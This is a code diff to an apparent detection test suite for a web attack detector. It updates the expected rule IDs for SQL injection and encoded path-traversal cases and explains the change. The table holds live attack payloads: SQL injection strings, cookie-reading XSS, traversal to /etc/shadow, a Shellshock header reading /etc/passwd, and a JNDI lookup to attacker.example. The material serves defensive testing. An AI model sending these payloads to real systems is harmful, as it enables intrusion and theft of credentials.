@@ -285,12 +285,15 @@ ATTACKS = [
     ('sqli-tautology', 'SQL injection', ['http://10.0.0.20/sqli-tautology?id=1%27%20OR%20%271%27%3D%271'], 1003),
     ('sqli-union', 'SQL injection', ['http://10.0.0.20/sqli-union?cat=1%20UNION%20SELECT%20username,password%20FROM%20users'], 1001),
     ('sqli-sleep', 'SQL injection', ['http://10.0.0.20/sqli-sleep?id=1%20AND%20SLEEP(5)'], 1009),
-    ('sqli-post', 'SQL injection', ['-d', "user=admin' or 1=1-- &pass=x", 'http://10.0.0.20/sqli-post'], 1004),
+    # In a form body: the built-in literal rules look at the URI; the injection detector (slot 6,
+    # docs/inject.md) finds it by syntax ("string break + boolean condition").
+    ('sqli-post', 'SQL injection', ['-d', "user=admin' or 1=1-- &pass=x", 'http://10.0.0.20/sqli-post'], 1200005),
     ('xss-script', 'XSS', ['http://10.0.0.20/xss-script?q=%3Cscript%3Ealert(1)%3C/script%3E'], 2001),
     ('xss-svg', 'XSS', ['http://10.0.0.20/xss-svg?q=%3Csvg/onload=alert(1)%3E'], 2006),
     ('xss-attr', 'XSS', ['http://10.0.0.20/xss-attr?q=%22%3E%3Cscript%3Edocument.cookie'], 2008),
     ('traversal-dots', 'path traversal', ['--path-as-is', 'http://10.0.0.20/traversal-dots/../../../../etc/passwd'], 3001),
-    ('traversal-encoded', 'path traversal', ['http://10.0.0.20/traversal-encoded/..%2F..%2F..%2Fetc%2Fshadow'], 3001),
+    # Encoded: no "../" in the raw URI for rule 3001; the detector decodes it ("dot-dot segment").
+    ('traversal-encoded', 'path traversal', ['http://10.0.0.20/traversal-encoded/..%2F..%2F..%2Fetc%2Fshadow'], 1200301),
     ('shell-jndi', 'shell / code injection', ['-A', '${jndi:ldap://attacker.example/a}', 'http://10.0.0.20/shell-jndi'], 4002),
     ('shell-shock', 'shell / code injection', ['-A', '() { :; }; /bin/cat /etc/passwd', 'http://10.0.0.20/shell-shock'], 4001),
 ]
